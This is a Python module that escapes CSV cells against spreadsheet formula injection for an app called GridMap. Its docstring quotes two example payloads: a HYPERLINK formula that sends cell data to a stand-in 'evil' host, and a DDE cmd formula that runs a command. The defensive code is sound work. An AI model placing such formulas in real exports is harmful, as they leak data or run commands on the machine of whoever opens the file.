"""CSV for spreadsheets: no cell a spreadsheet program would run as a formula (CSV injection).

Excel, WPS and LibreOffice evaluate a cell that starts with ``=``, ``+``,
``-`` or ``@`` (and, after a leading tab or carriage return, whatever
follows), so a grid named ``=HYPERLINK("http://evil/?"&A1)`` or a display
name ``=cmd|' /C calc'!A0`` would become a live formula in whoever opens the
export. Every CSV GridMap writes goes through :func:`writer`, which puts an
apostrophe in front of such text (OWASP's advice): the cell shows as the
text it is, and the apostrophe tells the reader it was escaped.

Numbers GridMap computes (ints, floats, Decimals) are written as numbers, a
negative one too: a number is never a formula, and a figure column must stay
summable. Only text is escaped, so ``-3`` typed into a name is ``'-3``.
"""
from __future__ import annotations

import csv
from typing import Any, Iterable

#: What a spreadsheet treats as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """``value`` safe for a spreadsheet cell: text starting like a formula gets a leading apostrophe.

    >>> [cell(v) for v in ("=1+1", "+86 138", "-x", "@SUM(A1)", "\\t=1", "a=b", -3, 2.5, None)]
    ["'=1+1", "'+86 138", "'-x", "'@SUM(A1)", "'\\t=1", 'a=b', -3, 2.5, None]
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class _SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`cell`."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs) -> _SafeWriter:
    """``csv.writer(out, **kwargs)`` for files people open in a spreadsheet: use it for every CSV export."""
    return _SafeWriter(out, **kwargs)
